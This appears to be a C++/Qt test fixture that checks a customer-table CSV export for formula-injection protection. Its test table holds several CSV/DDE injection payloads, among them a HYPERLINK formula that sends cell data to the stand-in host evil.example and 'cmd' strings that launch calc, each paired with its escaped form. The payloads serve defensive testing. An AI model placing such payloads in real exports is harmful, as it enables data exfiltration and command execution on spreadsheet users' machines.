// The shared table and the file comparison of the export tests (export_fixture.h).
#include "export_fixture.h"

#include "engine/build.h"
#include "export_job.h"
#include "generated_customers.h"
#include "language.h"
#include "test_csv_reader.h"

#include <QCoreApplication>
#include <QDir>
#include <QFile>
#include <QLocale>
#include <QSignalSpy>
#include <QTest>

#include <string_view>

namespace c360::test {

const std::vector<FormulaCase> kFormulaCases = {
    {"=SUM(A1)", "'=SUM(A1)"},
    {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")",
     "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")"},
    {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
    {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
    {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
    {"-x", "'-x"},
    {"\tz", "'\tz"},
    {"\rw", "'\rw"},
    {"\nv", "'\nv"},
    {"+1-555-0100", "+1-555-0100"},
    {"+49 30 7671226", "+49 30 7671226"},
    {"+44 (0)20 7946 0958", "+44 (0)20 7946 0958"},
    {"-12.50", "-12.50"},
    {"+1", "+1"},
    {"030/1234567", "030/1234567"},
    {"plain", "plain"},
};

namespace {

// The cell a file must hold: the table's text, except the salted cells and the renamed
// category ("-" and a name), whose protected forms are spelled out rather than derived.
std::string expectedCell(const Customer360& t, Column c, std::uint32_t row, bool protect,
                         std::uint32_t renamedCategoryRow) {
    std::string s;
    t.appendCell(s, c, row);
    if (!protect)
        return s;
    if ((c == Column::FirstName || c == Column::PhoneNumber) && row < kFormulaCases.size())
        return kFormulaCases[row].protectedCell;
    if (c == Column::FavoriteCategory && t.favoriteCategory[row] != kNoDictEntry &&
        t.favoriteCategory[row] == t.favoriteCategory[renamedCategoryRow])
        return "'" + s; // every customer of the renamed category, not only the one found

    return s;
}

} // namespace

QString compareFile(const QString& path, const Customer360& t,
                    const std::vector<std::uint32_t>& rows, const std::vector<Column>& columns,
                    char delimiter, bool excel, bool protect, std::uint32_t renamedCategoryRow) {
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return "cannot open " + path;
    const QByteArray bytes = file.readAll();
    std::string_view text(bytes.constData(), static_cast<std::size_t>(bytes.size()));
    const std::string_view bom = "\xEF\xBB\xBF";
    if (text.substr(0, 3) == bom) {
        if (!excel)
            return "a byte order mark in a plain CSV";
        text.remove_prefix(3);
    } else if (excel) {
        return "no byte order mark in an Excel CSV";
    }
    Records records;
    QString problem;
    if (!readCsv(text, delimiter, excel ? "\r\n" : "\n", records, problem))
        return problem;
    if (records.size() != rows.size() + 1)
        return QString("%1 records for %2 rows").arg(records.size()).arg(rows.size());
    for (std::size_t c = 0; c < columns.size(); ++c)
        if (records[0].size() != columns.size() || records[0][c] != columnInfo(columns[c]).name)
            return QString("header column %1").arg(c);
    for (std::size_t r = 0; r < rows.size(); ++r) {
        const auto& record = records[r + 1];
        if (record.size() != columns.size())
            return QString("record %1 has %2 fields").arg(r + 1).arg(record.size());
        for (std::size_t c = 0; c < columns.size(); ++c) {
            const std::string expected =
                expectedCell(t, columns[c], rows[r], protect, renamedCategoryRow);
            if (record[c] != expected)
                return QString("row %1 (table row %2), %3: [%4] instead of [%5]")
                    .arg(r)
                    .arg(rows[r])
                    .arg(QString::fromUtf8(columnInfo(columns[c]).name))
                    .arg(QString::fromStdString(record[c]), QString::fromStdString(expected));
        }
    }
    return {};
}

QStringList filesIn(const QString& folder) {
    return QDir(folder).entryList(QDir::Files | QDir::Hidden | QDir::NoDotAndDotDot);
}

QString customersText(std::size_t n) {
    return n == 1 ? QString("1 customer")
                  : QString("%1 customers").arg(QLocale().toString(static_cast<qulonglong>(n)));
}

void ExportFixture::prepare() {
    // The English plural forms ("1 customer", "2 customers") come from a translation.
    c360::ui::installTranslations(*QCoreApplication::instance(), QStringLiteral("en"));
    QLocale::setDefault(QLocale(QLocale::English, QLocale::UnitedStates));
    std::string error;
    BuildOutcome outcome;
    QVERIFY2(test::buildGeneratedCustomers(sources_.filePath("src").toStdString(), 2000, 11,
                                           outcome, error),
             error.c_str());
    auto table = std::make_shared<Customer360>(std::move(outcome.table));
    QVERIFY(table->rowCount() > 1000);

    // Salt the first rows with formula-like names and negative numbers, and one category
    // name with a leading '-', so protection is exercised on text and dictionary columns.
    TextColumn names;
    TextColumn phones;
    for (std::size_t r = 0; r < table->rowCount(); ++r) {
        const bool salted = r < kFormulaCases.size();
        names.push(salted ? std::string_view(kFormulaCases[r].text) : table->firstName.at(r));
        phones.push(salted ? std::string_view(kFormulaCases[r].text) : table->phoneNumber.at(r));
    }
    table->firstName = std::move(names);
    table->phoneNumber = std::move(phones);
    for (std::size_t r = 0; r < kFormulaCases.size(); ++r)
        table->daysSinceLastPurchase[r] = kNegativeDays;
    bool renamed = false;
    for (std::size_t r = 0; r < table->rowCount() && !renamed; ++r) {
        const std::int32_t id = table->favoriteCategory[r];
        if (id != kNoDictEntry) {
            std::string& name = table->categoryNames[static_cast<std::size_t>(id)];
            name = std::string("-").append(name);
            renamedCategoryRow_ = static_cast<std::uint32_t>(r);
            renamed = true;
        }
    }
    QVERIFY(renamed);
    table_ = table;

    // Every third row left out, the rest backwards: the file must follow this order.
    for (std::size_t r = table_->rowCount(); r-- > 0;)
        if (r % 3 != 1 || r < kFormulaCases.size())
            rows_.push_back(static_cast<std::uint32_t>(r));
    columns_ = {Column::Email,
                Column::FirstName,
                Column::PhoneNumber,
                Column::TotalSpend,
                Column::CustomerId,
                Column::FavoriteCategory,
                Column::LastPurchaseDate,
                Column::DaysSinceLastPurchase,
                Column::AvgSatisfactionScore,
                Column::CustomerStatusColumn,
                Column::LastName};
}

std::vector<std::uint32_t> ExportFixture::repeatedRows(std::size_t count) const {
    std::vector<std::uint32_t> rows(count);
    for (std::size_t i = 0; i < count; ++i)
        rows[i] = static_cast<std::uint32_t>(i % table_->rowCount());
    return rows;
}

QList<QVariant> ExportFixture::exportAndWait(ui::ExportDialog& dialog) {
    QSignalSpy finished(&dialog, &ui::ExportDialog::exportFinished);
    dialog.startExport();
    if (!dialog.isExporting() || !finished.wait(60000))
        return {};
    return finished.takeFirst();
}

} // namespace c360::test
